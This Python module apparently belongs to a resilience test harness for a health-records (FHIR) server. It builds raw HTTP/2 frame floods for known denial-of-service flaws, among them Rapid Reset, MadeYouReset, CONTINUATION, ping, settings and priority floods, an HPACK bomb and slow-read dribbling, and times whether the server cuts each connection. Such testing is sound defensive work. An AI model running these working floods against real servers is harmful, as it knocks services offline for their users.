"""Floods over HTTP/2, kind by kind: frames that cost the sender little. Each says what opens a connection and what is sent again and again,
`turn` after `turn`, as fast as it goes."""

import struct

import slow
import wire
from city import RECORDS
from store import DOCUMENT
from wire import frame, head, settings, window_update

AT_ONCE = 64
OPEN, WHOLE = wire.END_HEADERS, wire.END_HEADERS | wire.END_STREAM


def streams(turn):
    """New stream numbers."""
    first = 1 + 2 * AT_ONCE * turn
    return range(first, first + 2 * AT_ONCE, 2)


class Flood:
    """What one connection sends."""

    settings = settings()
    # Whether what comes back is read.
    reads = True
    # Seconds within which it is to be cut, and how long it is looked at.
    within, seconds = 5.0, 8

    def __init__(self, cookie):
        self.get = head("GET", RECORDS[0], cookie, ("accept", "application/fhir+json"))
        self.document = head("GET", DOCUMENT, cookie, ("accept", "*/*"))
        self.post = head("POST", "/fhir/Binary", cookie, ("content-type", "image/jpeg"), ("x-security-context", "Patient/P-0001"))

    def first(self):
        return wire.PREFACE + self.settings + frame(wire.SETTINGS, wire.ACK)

    def turn(self, turn):
        raise NotImplementedError


class Requests(Flood):
    """Requests and nothing wrong with them: what the others are held against."""

    within = None

    def turn(self, turn):
        return b"".join(frame(wire.HEADERS, WHOLE, stream, self.get) for stream in streams(turn))


class RapidReset(Flood):
    """CVE-2023-44487: asks and takes it back."""

    def turn(self, turn):
        cancel = struct.pack(">I", 8)
        return b"".join(frame(wire.HEADERS, WHOLE, one, self.get) + frame(wire.RST_STREAM, 0, one, cancel) for one in streams(turn))


class MadeYouReset(Flood):
    """CVE-2025-8671: asks, and makes the server take it back, by an error of the stream's own."""

    def turn(self, turn):
        return b"".join(frame(wire.HEADERS, WHOLE, one, self.get) + self.wrong(one) for one in streams(turn))


class MadeByZeroWindow(MadeYouReset):
    """... an update of its window by nothing."""

    def wrong(self, stream):
        return window_update(stream, 0)


class MadeByOverflow(MadeYouReset):
    """... more window than there can be."""

    def wrong(self, stream):
        return window_update(stream, 0x7FFFFFFF)


class MadeByData(MadeYouReset):
    """... a body after its end."""

    def wrong(self, stream):
        return frame(wire.DATA, wire.END_STREAM, stream, b"a")


class MadeByPriority(MadeYouReset):
    """... depending on itself."""

    def wrong(self, stream):
        return frame(wire.PRIORITY, 0, stream, struct.pack(">IB", stream, 15))


class MadeByLength(MadeYouReset):
    """... a body of another length than was said."""

    def turn(self, turn):
        section = self.post + wire.field("content-length", "1")
        return b"".join(frame(wire.HEADERS, OPEN, one, section) + frame(wire.DATA, wire.END_STREAM, one, b"abc") for one in streams(turn))


class Continuation(Flood):
    """VU#421644: a header section without end."""

    def turn(self, turn):
        begin = frame(wire.HEADERS, 0, 1, self.get) if turn == 0 else b""
        return begin + frame(wire.CONTINUATION, 0, 1, wire.field("x", "y" * 1000) * 16) * AT_ONCE


class EmptyContinuation(Flood):
    """The same, of nothing."""

    def turn(self, turn):
        begin = frame(wire.HEADERS, 0, 1, self.get) if turn == 0 else b""
        return begin + frame(wire.CONTINUATION, 0, 1) * (16 * AT_ONCE)


class Settings(Flood):
    """CVE-2019-9515: settings, each to be acknowledged."""

    def turn(self, turn):
        return settings() * (16 * AT_ONCE)


class SettingsUnread(Settings):
    """The same, and no acknowledgement is taken."""

    reads = False


class Ping(Flood):
    """CVE-2019-9512: pings, each to be answered."""

    def turn(self, turn):
        return frame(wire.PING, 0, 0, b"12345678") * (16 * AT_ONCE)


class PingUnread(Ping):
    """The same, and no answer is taken."""

    reads = False


class EmptyData(Flood):
    """CVE-2019-9518: a body of empty pieces."""

    def turn(self, turn):
        begin = frame(wire.HEADERS, OPEN, 1, self.post) if turn == 0 else b""
        return begin + frame(wire.DATA, 0, 1) * (16 * AT_ONCE)


class Priority(Flood):
    """CVE-2019-9513: which stream depends on which, again and again."""

    def turn(self, turn):
        return b"".join(frame(wire.PRIORITY, 0, one, struct.pack(">IB", 0, turn % 256)) for one in streams(turn % 64)) * 8


class WindowUpdates(Flood):
    """More window for the connection, an octet at a time."""

    def turn(self, turn):
        return window_update(0, 1) * (16 * AT_ONCE)


class WindowGames(Flood):
    """Answers that wait for window, and a window that opens and shuts for all of them."""

    settings = settings((wire.INITIAL_WINDOW, 0))

    def turn(self, turn):
        begin = b"".join(frame(wire.HEADERS, WHOLE, one, self.document) for one in streams(0)) if turn == 0 else b""
        return begin + (settings((wire.INITIAL_WINDOW, 1)) + settings((wire.INITIAL_WINDOW, 0))) * AT_ONCE


class Dribble(Flood):
    """CVE-2019-9511/9517: a wide window, many documents asked for, and nothing taken off the wire."""

    settings = settings((wire.INITIAL_WINDOW, 0x7FFFFFFF))
    reads = False
    # It asks once and is slow: it has as long as whoever does not read over HTTP/1.1.
    within, seconds = slow.AnswerUnread.within, 48

    def turn(self, turn):
        if turn > 0:
            return b""
        return window_update(0, 0x7FFF0000) + b"".join(frame(wire.HEADERS, WHOLE, one, self.document) for one in streams(0))


class HpackBomb(Flood):
    """One long field in the table, named thousands of times in each request."""

    def turn(self, turn):
        if turn == 0:
            # RFC 7541 6.2.1: kept in the table.
            kept = b"\x40" + wire.text("x-bomb") + wire.text("b" * 3900)
            return frame(wire.HEADERS, WHOLE, streams(0)[0], self.get + kept)
        # 6.1: the newest entry of the table is number 62.
        section = self.get + wire.integer(62, 7, 0x80) * 15000
        return b"".join(frame(wire.HEADERS, WHOLE, one, section) for one in streams(turn)[:4])


class EmptyNames(Flood):
    """CVE-2019-9516: fields without name or value."""

    def turn(self, turn):
        section = self.get + wire.field("", "") * 4000
        return b"".join(frame(wire.HEADERS, WHOLE, one, section) for one in streams(turn)[:4])


class UnknownFrames(Flood):
    """Frames of no known kind, which are to be ignored."""

    def turn(self, turn):
        return frame(0xFA, 0, 0, b"x" * 64) * (8 * AT_ONCE)


KINDS = {
    "requests": Requests,
    "rapid-reset": RapidReset,
    "made-you-reset: window 0": MadeByZeroWindow,
    "made-you-reset: window overflow": MadeByOverflow,
    "made-you-reset: data after end": MadeByData,
    "made-you-reset: priority": MadeByPriority,
    "made-you-reset: length": MadeByLength,
    "continuation": Continuation,
    "continuation, empty": EmptyContinuation,
    "settings": Settings,
    "settings, unread": SettingsUnread,
    "ping": Ping,
    "ping, unread": PingUnread,
    "empty data": EmptyData,
    "priority": Priority,
    "window updates": WindowUpdates,
    "window games": WindowGames,
    "wide window, unread": Dribble,
    "HPACK bomb": HpackBomb,
    "empty names": EmptyNames,
    "unknown frames": UnknownFrames,
}
